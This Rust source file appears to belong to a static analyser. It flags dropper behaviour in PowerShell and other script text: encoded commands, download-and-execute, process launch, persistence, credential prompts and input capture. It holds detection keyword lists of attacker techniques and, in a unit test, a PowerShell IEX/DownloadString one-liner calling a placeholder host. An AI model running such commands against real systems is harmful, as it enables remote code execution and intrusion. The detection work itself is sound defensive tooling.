//! Text of other script languages (PowerShell, AppleScript, VBScript, Python …):
//! hosts and the verbs of droppers, by words rather than by grammar.

use vetch_model::capability::{CapabilityId, EvalSource, Resource};

use super::Runner;
use crate::value::{Taint, Value};

/// Options of PowerShell that a value follows.
const WITH_VALUE: &[&str] = &[
    "executionpolicy",
    "inputformat",
    "outputformat",
    "version",
    "workingdirectory",
    "configurationname",
    "windowstyle",
];

/// Most addresses taken from one text.
const MAX_ADDRESSES: usize = 16;

impl Runner<'_, '_> {
    /// `powershell …`
    pub(crate) fn powershell(&mut self, args: &[String], taint: Taint) -> Taint {
        let mut output = Taint::NONE;
        let mut at = 0;
        while at < args.len() {
            let option = args[at].to_lowercase();
            let value = args.get(at + 1).cloned().unwrap_or_default();
            let is = |full: &str, shortest: usize| {
                option.len() > shortest && format!("-{full}").starts_with(&option) || option == format!("-{full}")
            };
            if is("encodedcommand", 1) || option == "-ec" || option == "-enc" {
                if let Some(text) = decode_utf16_base64(&value) {
                    output = output.or(self.foreign(&text, taint.or(Taint::DECODED)));
                }
                at += 2;
            } else if is("windowstyle", 1) && value.eq_ignore_ascii_case("hidden") {
                self.attributes.hidden = true;
                at += 2;
            } else if is("command", 1) || option == "-c" {
                output = output.or(self.foreign(&args[at + 1..].join(" "), taint));
                break;
            } else if WITH_VALUE.iter().any(|name| is(name, 2)) || matches!(option.as_str(), "-ep" | "-ex") {
                at += 2;
            } else if option.starts_with('-') {
                at += 1;
            } else {
                output = output.or(self.foreign(&args[at..].join(" "), taint));
                break;
            }
        }
        output
    }

    /// Text in a language that is not parsed.
    pub(crate) fn foreign(&mut self, text: &str, taint: Taint) -> Taint {
        // What is written in parts is read as a whole: `'Down'+'load'`, `i`ex`.
        let lower = text.to_lowercase().replace("'+'", "").replace("\"+\"", "").replace(['`', '^'], "");
        self.script_switches_off(&lower);
        let mut output = Taint::NONE;
        for url in addresses(text) {
            let effect = self.connect(url, taint);
            output = output.or(self.interp.source(effect));
        }
        let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
        if has(&["invoke-expression", "iex ", "iex(", "'iex'", "|iex", "| iex", "exec(", "eval(", "executeglobal"]) {
            let source = match (output.is_empty(), taint.is_decoded()) {
                (false, _) => EvalSource::Downloaded,
                (true, true) => EvalSource::Decoded,
                (true, false) => EvalSource::Dynamic,
            };
            let effect = self.interp.effect(CapabilityId::CodeEval, Resource::Eval(source), "runs text as code");
            self.interp.flow(output.or(taint), effect);
        }
        let runs_file = lower.split([';', '\n', '|', '{']).any(|command| is_run(command.trim()));
        let starts = has(&[
            "start-process",
            "invoke-item",
            "wscript.shell",
            "do shell script",
            "subprocess",
            "os.system",
            "createobject(\"shell",
            "popen",
        ]);
        if starts || runs_file {
            let effect =
                self.interp.effect_with(CapabilityId::ProcessSpawn, Resource::Any, self.attributes, "starts a program");
            self.interp.flow(output, effect);
        }
        if has(&["downloadfile", "-outfile", "out-file", "set-content", "savetofile", "urlretrieve"]) {
            self.interp.write_effects(&Value::UNKNOWN, &Value::unknown(output));
        }
        for (words, mechanism) in [
            (&["currentversion\\run", "currentversion/run"][..], "registry run key"),
            (&["schtasks", "register-scheduledtask"], "scheduled task"),
            (&["launchagents", "launchdaemons", "launchctl load"], "launch agent"),
            (&["login item"], "login item"),
        ] {
            if has(words) {
                self.interp.effect(
                    CapabilityId::Persist,
                    Resource::Named(mechanism.to_owned()),
                    format!("makes a {mechanism}"),
                );
            }
        }
        // A box of the system's look, into which somebody types what is theirs.
        if has(&["hidden answer", "get-credential", "-assecurestring", "promptforcredential"]) {
            output = output.or(self.interp.given_source("password that it asks for".to_owned()));
        }
        if has(&["get-clipboard", "pbpaste", "the clipboard"]) {
            self.interp.effect(CapabilityId::InputClipboard, Resource::None, "reads the clipboard");
        }
        if has(&["copyfromscreen", "screencapture"]) {
            self.interp.effect(CapabilityId::InputScreen, Resource::None, "captures the screen");
        }
        if has(&["getasynckeystate", "setwindowshookex"]) {
            self.interp.effect(CapabilityId::InputKeyboard, Resource::None, "reads the keyboard");
        }
        output
    }
}

/// Whether a command of PowerShell is a file that it runs: `.\\a.exe`, `& $path`, `saps a.exe`.
fn is_run(command: &str) -> bool {
    const STARTERS: &[&str] = &["saps ", "start ", "ii ", "cmd /c ", "cmd.exe /c ", "rundll32 ", "regsvr32 ", "mshta "];
    command.starts_with(".\\")
        || command.strip_prefix('&').is_some_and(|file| file.trim_start().starts_with(['$', '.', '"', '\'', '(']))
        || STARTERS.iter().any(|starter| command.starts_with(starter))
}

/// URLs in a text, as far as white space, quotes and brackets.
pub(super) fn addresses(text: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let start = rest[..at]
            .rfind(|c: char| !c.is_ascii_alphanumeric() && c != '+')
            .map_or(0, |i| i + rest[i..].chars().next().map_or(1, char::len_utf8));
        let end =
            rest[at..].find(|c: char| c.is_whitespace() || "\"'`<>)|;,".contains(c)).map_or(rest.len(), |i| at + i);
        if end > at + 3 && start < at && found.len() < MAX_ADDRESSES {
            found.push(&rest[start..end]);
        }
        rest = &rest[end.max(at + 3)..];
    }
    found
}

fn decode_utf16_base64(text: &str) -> Option<String> {
    let bytes = crate::apis::codecs::decode_base64(text)?;
    let units: Vec<u16> = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
    Some(String::from_utf16_lossy(&units))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_end_at_delimiters() {
        let text = "IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/x'); b=https://b.invalid";
        assert_eq!(addresses(text), ["http://a.invalid/x", "https://b.invalid"]);
        assert!(addresses("://").is_empty());
        assert!(addresses("é://é").len() <= 1);
    }
}
